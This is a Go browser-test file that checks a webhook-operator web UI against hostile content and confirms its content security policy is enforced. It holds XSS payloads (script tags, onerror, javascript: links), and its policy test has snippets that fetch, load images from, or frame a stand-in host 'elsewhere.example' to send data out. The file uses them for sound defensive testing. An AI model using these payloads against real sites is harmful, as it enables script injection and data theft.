package ui

import (
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/maestra-io/webhook-operator/dispatcher/plan"
	"github.com/maestra-io/webhook-operator/test/receiver"
)

// TestHostileContent: what receivers and callers send stays text, whatever it is; it
// cannot turn what is around it, nor make the page wider. That no dialog opens and no
// policy is offended is held by each test.
func TestHostileContent(t *testing.T) {
	const script = `<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>`
	w := newWorld(t, func(rw http.ResponseWriter, r receiver.Request) {
		rw.Header().Set("Content-Type", "text/html")
		rw.Header().Set("X-Answer", script)
		_, _ = rw.Write([]byte(script + "\u202eevil\u202c" + strings.Repeat("W", 5000) + "\u0000\u001b[31m"))
	})
	w.configure(func(in *plan.Integration, wh *plan.Webhook) []plan.Webhook {
		in.DisplayName, wh.DisplayName, wh.BodyContext = script, script+"\u202e", plan.BodyText
		return nil
	})
	call := w.call(`{"id": 1, "name": "<script>alert(4)</script>\u202e` + strings.Repeat("M", 3000) + `"}`)
	p := newPageAt(t, w, callPath(call.TransactionID))
	p.see(script, "U+202E", "U+001B", "<script>alert(4)</script>")
	for _, view := range []string{callPath(call.TransactionID), "#/ns/shop", "#/ns/shop/webhooks", "#/ns/shop/webhooks/order-shipped", "#/ns/shop/deliveries", "#/ns/shop/deliveries?tail=on"} {
		p.size(360, 800, "light")
		p.open(view)
		p.until("the view "+view, `document.querySelector("h1") && !document.querySelector(".loading")`+` ? true : false`)
		if wide := evaluate[int](p, "document.scrollingElement.scrollWidth"); wide > 360 {
			t.Errorf("%s: hostile content makes the page %d pixels wide", view, wide)
		}
		if n := evaluate[int](p, `document.querySelectorAll("#app script, #app img[onerror], #app a[href^=javascript]").length`); n != 0 {
			t.Errorf("%s: %d elements come from content", view, n)
		}
	}
}

// TestPrivateValuesAreMasked: they are shown as such, also where a receiver echoes them,
// and are nowhere in the document.
func TestPrivateValuesAreMasked(t *testing.T) {
	w := newWorld(t, func(rw http.ResponseWriter, r receiver.Request) {
		_, _ = rw.Write([]byte(`{"echo": "` + r.Header.Get("Authorization") + `"}`))
	})
	w.configure(nil)
	call := w.call(`{"id": 1, "name": "a"}`)
	p := newPageAt(t, w, callPath(call.TransactionID))
	p.see("Authorization", "Attempt 1")
	if n := evaluate[int](p, `document.querySelectorAll(".masked").length`); n != 2 {
		t.Errorf("%d values are marked as private, not that of the header and its echo", n)
	}
	if evaluate[bool](p, `document.documentElement.outerHTML.includes("hunter2")`) {
		t.Error("the document has the private value")
	}
}

// TestThePolicyIsInForce: whatever a mistake in the page let through, the browser makes no
// HTML of text, runs no script but the page's, and connects to nobody else, and these
// tests would notice.
func TestThePolicyIsInForce(t *testing.T) {
	w := newWorld(t, nil)
	p := newPage(t, w)
	p.provoked = true
	p.open("")
	p.see("How to get a token")
	for directive, attack := range map[string]string{
		"require-trusted-types-for trusted-types-sink Element":           `try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch {}`,
		"require-trusted-types-for trusted-types-sink HTMLScriptElement": `const s = document.createElement("script"); s.append("window.attacked = true"); document.body.append(s);`,
		"img-src":        `new Image().src = "https://elsewhere.example/?data";`,
		"connect-src":    `fetch("https://elsewhere.example/").catch(() => {});`,
		"style-src-attr": `document.body.setAttribute("style", "color: red");`,
		"frame-src":      `const f = document.createElement("iframe"); f.src = "https://elsewhere.example/"; document.body.append(f);`,
	} {
		if _, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool]("(() => { "+attack+" return true; })()")); err != nil {
			t.Fatal(err)
		}
		p.until("the browser to stop "+directive, `lookout.violations.some((v) => v.startsWith(%s))`, directive)
	}
	if evaluate[bool](p, "window.attacked === true") {
		t.Error("an inline script has run")
	}
}
